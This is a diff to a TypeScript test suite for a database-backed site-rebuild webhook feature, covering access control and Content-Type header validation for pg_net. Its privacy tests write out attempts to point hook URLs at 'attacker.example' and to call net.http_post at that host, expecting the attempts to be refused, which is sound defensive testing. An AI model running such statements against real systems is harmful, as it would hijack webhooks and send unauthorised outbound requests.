@@ -133,13 +133,12 @@ describe('bursts are coalesced', () => {
 });
 
 describe('the hook is private', () => {
-  it('no API role can read or change the hook URLs, or call net.http_post', async () => {
+  it('no API role can read or change the hook URLs', async () => {
     await useHook('0 seconds');
     for (const role of ['anon', 'authenticated']) {
       for (const sql of [
         'select url from private.site_rebuild_hooks',
         `update private.site_rebuild_hooks set url = 'https://attacker.example/'`,
-        `select net.http_post('https://attacker.example/')`,
       ]) {
         const outcome = await stack.engine
           .transaction(async (tx) => {
@@ -151,6 +150,16 @@ describe('the hook is private', () => {
         expect(outcome, `${role}: ${sql}`).toBe('42501');
       }
     }
+  });
+
+  it('net.http_post is out of reach over the API, which serves only `public` (its grants do not protect it)', async () => {
+    for (const client of [stack.anon(), admin]) {
+      const { error } = await client
+        .schema('net' as 'public')
+        .rpc('http_post' as never, { url: 'https://attacker.example/' } as never);
+      expect(error?.code).toBe('PGRST106');
+    }
+    expect(await queued()).toBe(0);
   });
 
   it("a hook that cannot be reached never fails the admin's write", async () => {
@@ -166,5 +175,68 @@ describe('the hook is private', () => {
         return rows[0]?.n;
       })
       .toBe(0);
+  });
+});
+
+// pg_net raises unless a Content-Type header, if any (name in any case), is exactly 'application/json'
+// (its net.http_post). The trigger calls it inside the admin's transaction, so a hook row it would refuse
+// must never be stored: it would make every content save fail.
+const refusedHeaders = [
+  { 'Content-Type': 'text/plain' },
+  { 'Content-Type': 'application/json; charset=utf-8' },
+  { 'content-type': 'text/plain' },
+  { 'CONTENT-TYPE': 'Application/JSON' },
+];
+const acceptedHeaders = [
+  {},
+  { 'content-type': 'application/json' },
+  { 'Content-Type': 'application/json', Authorization: 'Bearer deploy-token' },
+];
+
+describe('hook headers pg_net would refuse', () => {
+  it('a hook row whose Content-Type is not exactly application/json is refused when written', async () => {
+    await stack.engine.owner.query('delete from private.site_rebuild_hooks');
+    // Stricter than pg_net where it reads only the first Content-Type: the request would carry both.
+    const duplicate = { 'Content-Type': 'application/json', 'content-type': 'text/plain' };
+    for (const headers of [...refusedHeaders, duplicate, ['Content-Type', 'application/json'], 'application/json']) {
+      const outcome = await stack.engine.owner
+        .query(`insert into private.site_rebuild_hooks (name, url, headers) values ('bad', $1, $2::jsonb)`, [
+          hookUrl,
+          JSON.stringify(headers),
+        ])
+        .then(() => 'stored')
+        .catch((error: { code?: string }) => error.code);
+      expect(outcome, JSON.stringify(headers)).toBe('23514');
+    }
+    for (const [index, headers] of acceptedHeaders.entries()) {
+      await stack.engine.owner.query(
+        `insert into private.site_rebuild_hooks (name, url, headers, min_interval) values ($1, $2, $3::jsonb, '0 seconds')`,
+        [`good-${index}`, hookUrl, JSON.stringify(headers)],
+      );
+    }
+    await stack.engine.owner.query('delete from net.http_request_queue');
+    const { error } = await admin.from('news').insert(news('Accepted headers'));
+    expect(error).toBeNull();
+    expect(await queued()).toBe(acceptedHeaders.length);
+  });
+
+  it('the local net.http_post refuses the same headers as pg_net, and adds the Content-Type when absent', async () => {
+    for (const headers of refusedHeaders) {
+      const outcome = await stack.engine.owner
+        .query(`select net.http_post('http://127.0.0.1:9/', '{}'::jsonb, '{}'::jsonb, $1::jsonb)`, [
+          JSON.stringify(headers),
+        ])
+        .then(() => 'queued')
+        .catch((error: Error) => error.message);
+      expect(outcome, JSON.stringify(headers)).toContain('Content-Type header must be "application/json"');
+    }
+    await stack.engine.owner.query('delete from net.http_request_queue');
+    await stack.engine.owner.query(
+      `select net.http_post('http://127.0.0.1:9/', '{}'::jsonb, '{}'::jsonb, '{"Authorization": "Bearer x"}'::jsonb)`,
+    );
+    const { rows } = await stack.engine.owner.query<{ headers: Record<string, string> }>(
+      'select headers from net.http_request_queue',
+    );
+    expect(rows[0]?.headers).toEqual({ Authorization: 'Bearer x', 'Content-Type': 'application/json' });
   });
 });
